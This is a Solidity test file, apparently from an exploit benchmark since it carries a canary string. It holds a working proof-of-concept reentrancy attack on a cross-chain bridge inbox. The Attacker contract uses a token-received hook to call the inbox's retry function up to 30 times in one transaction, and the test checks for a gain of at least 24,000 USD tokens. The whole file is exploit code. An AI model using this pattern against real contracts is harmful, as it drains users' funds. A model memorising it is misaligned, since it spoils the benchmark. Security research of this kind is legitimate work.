// SPDX-License-Identifier: LGPL-3.0-only
pragma solidity 0.8.30;

// assay-canary-9c41e7d3-2b6f-4a58-8e10-d37f5a0c64b9
import "../Base.sol";

contract Attacker is Agent, ITransferHook {
    constructor(Deployment.Station memory home_, Deployment.Station memory away_, address[] memory a, address[] memory b)
        payable
        Agent(home_, away_, a, b)
    {}

    Messages.Message private message;
    uint256 private visits;

    function begin(WrappedToken token) external {
        message = _sendBack(token, token.balanceOf(address(this)), "now");
        _carry(true);
    }

    function end() external {
        _hand(true, message);
        visits = 1;
        try home.inbox.retry(message) {} catch {}
    }

    function onTokensReceived(address, uint256, address, bytes calldata) external {
        require(visits > 0, "not yet");
        for (; visits < 30; ) {
            visits++;
            try home.inbox.retry(message) {} catch {}
        }
    }
}

contract Proof is Base {
    Attacker private other;

    function _start() internal override {
        other = new Attacker{value: 1 ether}(home, away, watchers, returning);
        wrapped.transfer(address(other), 1_000e6);
    }

    function exploit() public {
        other.begin(wrapped);
        vm.warp(block.timestamp + 31 minutes);
        other.end();
    }

    function test_Exploit() public {
        exploit();
        require(usd.balanceOf(address(other)) >= 24_000e6, "no gain");
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
